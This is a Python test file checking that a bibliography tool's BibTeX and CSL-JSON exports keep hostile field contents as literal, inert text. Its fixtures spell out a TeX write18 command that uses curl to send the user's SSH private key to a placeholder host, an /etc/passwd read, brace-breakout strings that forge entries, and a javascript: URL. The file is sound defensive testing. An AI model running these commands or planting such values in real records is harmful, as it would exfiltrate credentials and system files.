"""BibTeX exports are inert (issue 32): whatever a record holds (an imported Zotero database,
a PDF's own metadata, an edit), the .bib parses into exactly one entry per document, every
field reads back as the literal text, and no TeX command in a field can run."""

from __future__ import annotations

import re

import bibtexparser

from haiku.rag.bibliography import Bibliographic, Creator, to_bibtex, to_csl_json

WRITE18 = "\\immediate\\write18{curl -d @$HOME/.ssh/id_rsa evil.example}"
PASSWD = "\\input{/etc/passwd}"
BREAKOUT = "}}\n@misc{forged,\n  title = {" + PASSWD + "}\n}\n@comment{"

# the LaTeX meaning of the commands the writer uses for characters TeX would interpret
_TEXT_COMMANDS = {
    r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}",
    r"\textasciitilde{}": "~", r"\textasciicircum{}": "^",
}
_ESCAPE = re.compile(r"\\text[a-z]+\{\}|\\[&%$#_]")


def literal(field: str) -> str:
    """A written field's text, as LaTeX typesets it; fails if any other command is left."""
    field = field[1:-1] if field.startswith("{") and field.endswith("}") else field
    text = _ESCAPE.sub(lambda m: _TEXT_COMMANDS.get(m.group(), m.group()[-1]), field)
    leftover = _ESCAPE.sub("", field)
    assert "\\" not in leftover, f"a TeX command survives in {field!r}"
    return text


def hostile_records() -> list[Bibliographic]:
    return [
        Bibliographic(
            title=f"Wages {BREAKOUT} 100% & $5 #1 a_b ~x^2 {WRITE18}",
            creators=[
                Creator(family="O'Neil}, and {Evil", given="Ann {" + PASSWD),
                Creator(family="Smith", given="J. and Mallory, Eve"),
            ],
            year=2024,
            item_type="journalArticle",
            venue="Journal of } @misc{x,",
            doi="10.1000/abc}}\n@misc{doi-forged, note={" + WRITE18 + "}}",
            url="https://example.org/a}}\n@misc{url-forged,\n note={" + WRITE18 + "}}",
            zotero_key="KEY1,\n title={x}}\n@misc{key-forged",
            tags=["}{", "\\def\\x{y}"],
        ),
        Bibliographic(
            title="Plain second paper",
            creators=[Creator(family="Doe", given="Jane")],
            year=2021,
            url="javascript:" + PASSWD,
            doi="10.5555/12345678",
        ),
    ]


def test_hostile_fields_give_one_entry_per_document_with_the_literal_text():
    records = hostile_records()
    written = to_bibtex(records)
    library = bibtexparser.parse_string(written)
    assert not library.failed_blocks
    assert len(library.entries) == 2, [e.key for e in library.entries]
    first, second = library.entries
    assert re.fullmatch(r"[A-Za-z0-9_:.\-]+", first.key)
    assert literal(first.fields_dict["title"].value) == records[0].title.replace("\n", " ")
    assert "O'Neil}, and {Evil" in literal(first.fields_dict["author"].value)
    # BibTeX splits the author list at a top-level " and ": only the writer's own ones are
    authors = first.fields_dict["author"].value
    depth, top_level = 0, []
    for index, char in enumerate(authors):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth == 0 and authors[index:index + 5] == " and ":
            top_level.append(index)
    assert len(top_level) == 1
    assert literal(first.fields_dict["journal"].value) == "Journal of } @misc{x,"
    # a web address stays a usable link, its dangerous characters percent-encoded
    url = first.fields_dict["url"].value
    assert url.startswith("https://example.org/a%7D%7D%0A@misc%7Burl-forged")
    assert not set(url) & set("{}\\ \n")
    # a DOI with a line break in it is no DOI: written as plain (escaped) text
    literal(first.fields_dict["doi"].value)
    assert second.fields_dict["doi"].value == "10.5555/12345678"
    assert literal(second.fields_dict["url"].value) == "javascript:" + PASSWD
    for entry in library.entries:
        for field in entry.fields:
            if field.key != "url":
                literal(field.value)


def test_no_line_of_the_file_starts_an_entry_a_document_wrote():
    written = to_bibtex(hostile_records())
    starts = [line for line in written.splitlines() if line.lstrip().startswith("@")]
    assert len(starts) == 2


def test_csl_json_keeps_the_literal_text():
    records = hostile_records()
    items = to_csl_json(records)
    assert [i["title"] for i in items] == [r.title for r in records]
